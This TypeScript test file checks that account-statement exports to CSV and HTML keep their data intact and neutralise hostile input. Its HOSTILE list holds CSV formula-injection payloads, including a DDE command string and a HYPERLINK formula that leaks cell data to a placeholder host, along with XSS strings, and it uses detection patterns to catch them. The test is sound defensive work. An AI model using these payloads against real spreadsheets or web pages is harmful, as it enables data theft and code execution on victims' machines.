/** Statements as tables and pages: readers of the format get back what went in, and hostile text stays text. */
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvTable } from '../../reports/csv.ts';
import type { Document } from '../../reports/document.ts';
import { figureText, momentText, periodText } from '../../reports/figures.ts';
import { documentHtml, escapeHtml, PAGE_STYLE } from '../../reports/html.ts';
import { statementCsv } from '../../reports/statement/csv.ts';
import { statementDocument } from '../../reports/statement/document.ts';
import { holds } from '../support/property.ts';
import { randomAccount, StatedActor } from '../support/statement.ts';

/** What stands below the movements of a document. */
function movementDetails(document: Document): (string | undefined)[] {
  const movements = document.tables.find(({ heading }) => heading === 'Movements');
  return movements?.rows.map(({ detail }) => detail) ?? [];
}

/** What somebody would put into a reference to harm whoever opens a statement. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test?"&A1,"open")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '＝1+1',
  "'=1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title></style><h1>x',
  '&lt;b&gt;',
  'a,b;c\td"e"',
  ' padded ',
];

/** An account whose references are these, one deposit each. */
async function accountWith(references: readonly string[]): Promise<StatedActor> {
  const actor = new StatedActor();
  await actor.run('OpenAccount', { customerId: '-c=1', accountType: 'INDIVIDUAL', currency: 'USD' });
  for (const reference of references) await actor.run('DepositFunds', { amount: '1', reference });
  return actor;
}

describe('CSV', () => {
  it('ends lines as RFC 4180 has them, and gives every line as many fields', () => {
    const text = csvTable(['a', 'b'], [{ a: 1 }, { b: 'x,"y"\r\nz' }, {}]);
    expect(text).toBe('a,b\r\n1,\r\n,"x,""y""\r\nz"\r\n,\r\n');
  });

  it('does not lose a field that it has no column for', () => {
    expect(() => csvTable(['a'], [{ a: 1, b: 2 }])).toThrow('no column b');
  });

  it.each(['-12.5', '0', '-0.00000001', '12'])('leaves the number %s a number', (number) => {
    expect(csvField(number)).toBe(number);
  });

  it('gives back any text, without the one apostrophe in front', () => {
    const field = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...HOSTILE));
    const property = fc.property(fc.array(fc.tuple(field, field), { minLength: 1 }), (rows) => {
      const text = csvTable(
        ['a', 'b'],
        rows.map(([a, b]) => ({ a, b })),
      );
      const read = parse(text, { record_delimiter: '\r\n' }) as string[][];
      expect(read.slice(1).map((fields) => fields.map((value) => value.replace(/^'/, '')))).toEqual(rows);
      for (const value of read.flat()) expect(value).not.toMatch(/^([=+@\t\r\n＝＋－＠]|-(?!\d+(\.\d+)?$))/);
    });
    holds(property, { seed: 20_261, runs: 500 });
  });

  it('of a statement has every fact, movement and position of it', async () => {
    const statement = await (await randomAccount(3, 200)).statement();
    const rows = parse(statementCsv(statement), { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    const of = (record: string) => rows.filter((row) => row.record === record);
    const facts = Object.fromEntries(of('fact').map(({ name, value }) => [name, value]));
    expect(facts).toMatchObject({
      accountId: 'local',
      from: '',
      openingBalance: statement.openingBalance,
      closingBalance: statement.closingBalance,
      fees: statement.totals.fees,
      headHash: statement.heads[0]?.hash,
    });
    expect(of('movement').map(({ amount, balance, version }) => [amount, balance, Number(version)])).toEqual(
      statement.movements.map(({ amount, balance, version }) => [amount, balance, version]),
    );
    const trades = statement.movements.filter(({ trade }) => trade !== null);
    expect(of('movement').filter(({ side }) => side !== '')).toMatchObject(trades.map(({ trade }) => trade));
    const amendments = statement.movements.flatMap(({ amendment }) => amendment ?? []);
    expect(amendments.length).toBeGreaterThan(0);
    const amended = of('movement').filter(({ amendedVersion }) => amendedVersion !== '');
    expect(amended.map(({ tradeId, fee, realizedPnl }) => ({ tradeId, fee, realizedPnl }))).toEqual(
      amendments.map(({ tradeId, changes }) => ({
        tradeId,
        fee: changes.fees,
        realizedPnl: changes.realizedPnl,
      })),
    );
    expect(of('position')).toMatchObject(statement.positions);
    expect(of('realizedPnl').map(({ symbol, realizedPnl }) => ({ symbol, realizedPnl }))).toEqual(
      statement.realizedPnl.bySymbol,
    );
  });

  it('of a statement runs nothing that a reference says', async () => {
    const references = HOSTILE.filter((text) => !text.includes('\t'));
    const statement = await (await accountWith(references)).statement();
    const rows = parse(statementCsv(statement), { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    const read = rows.flatMap(({ record, reference = '' }) => (record === 'movement' ? [reference] : []));
    expect(read.map((text) => text.replace(/^'/, ''))).toEqual(references);
    expect(rows.find(({ name }) => name === 'customerId')?.value).toBe("'-c=1");
    for (const text of read) expect(text).not.toMatch(/^[=+@＝-]/);
  });
});

describe('the page of a statement', () => {
  it('says what is to be said and lets no reference be markup', async () => {
    const references = HOSTILE.filter((text) => !text.includes('\t'));
    const page = documentHtml(statementDocument(await (await accountWith(references)).statement()));
    for (const reference of references) expect(page).toContain(escapeHtml(reference));
    // Every tag of the page is one of its own.
    const tags = new Set(Array.from(page.matchAll(/<\/?([a-z0-9]+)/gi), ([, name]) => name?.toLowerCase()));
    const own = [
      'html',
      'head',
      'meta',
      'title',
      'style',
      'body',
      'main',
      'h1',
      'h2',
      'p',
      'div',
      'section',
      'dl',
      'dt',
      'dd',
    ];
    const table = ['table', 'colgroup', 'col', 'thead', 'tbody', 'tr', 'th', 'td', 'wbr'];
    expect([...tags].filter((tag) => ![...own, ...table].includes(tag ?? ''))).toEqual([]);
    expect(page).not.toMatch(/<[^>]*\son\w+=/i);
  });

  it('repeats its heads and keeps rows whole in print', () => {
    expect(PAGE_STYLE).toContain('thead { display: table-header-group; }');
    expect(PAGE_STYLE).toMatch(/tbody \{[^}]*break-inside: avoid/);
    expect(PAGE_STYLE).toContain('@page');
  });

  it('says of a correction and of a cancellation by how much they change the holding, fees and profit', async () => {
    const actor = new StatedActor();
    const trade = { tradeId: 't-1', symbol: 'IBM', side: 'BUY', quantity: '10', price: '5', fee: '1' };
    const opening = { customerId: 'c', accountType: 'INDIVIDUAL', currency: 'USD', initialBalance: '1000' };
    const sale = { ...trade, tradeId: 't-2', side: 'SELL', quantity: '4', price: '6', fee: '0' };
    await actor.run('OpenAccount', opening);
    await actor.run('ExecuteTrade', trade);
    await actor.run('ExecuteTrade', sale);
    await actor.run('CorrectTrade', { tradeId: 't-1', quantity: '12', fee: '0.5', reason: 'misread' });
    await actor.run('CancelTrade', { tradeId: 't-2', reason: 'never was' });
    const details = movementDetails(statementDocument(await actor.statement()));
    expect(details).toContainEqual(
      expect.stringMatching(/^trade t-1 .* quantity \+2 · fees -0\.50 · misread$/),
    );
    expect(details).toContainEqual(
      expect.stringMatching(/^trade t-2 .* quantity \+4 · realised -4\.00 · never was$/),
    );
  });

  it('has the balance of every movement', async () => {
    const statement = await (await randomAccount(5, 120)).statement();
    const page = documentHtml(statementDocument(statement)).replaceAll('<wbr>', '');
    expect(page.match(/<tbody>/g)?.length).toBe(
      statement.movements.length + 2 + statement.positions.length + statement.realizedPnl.bySymbol.length,
    );
    for (const { balance } of statement.movements) expect(page).toContain(`>${figureText(balance, 2)}<`);
  });
});

describe('figures', () => {
  it.each([
    ['-1234.5', 2, '-1,234.50'],
    ['0', 2, '0.00'],
    ['123', 0, '123'],
    ['-100', 0, '-100'],
    ['1234567.12345678', 2, '1,234,567.12345678'],
    ['-1000000', 3, '-1,000,000.000'],
  ])('show %s with at least %i decimals as %s', (decimal, decimals, shown) => {
    expect(figureText(decimal, decimals)).toBe(shown);
  });

  it('show times without what says nothing', () => {
    expect(momentText('2026-11-21T09:30:00.500Z')).toBe('2026-11-21 09:30:00.500');
    expect(momentText('2026-11-21T09:30:00.000Z')).toBe('2026-11-21 09:30:00');
    expect(momentText('2026-11-21T00:00:00.000Z')).toBe('2026-11-21');
    expect(periodText(null, null)).toBe('from the beginning to the newest entry');
    expect(periodText('2026-01-01T00:00:00.000Z', '2026-02-01T00:00:00.000Z')).toBe(
      'from 2026-01-01 to before 2026-02-01',
    );
  });
});
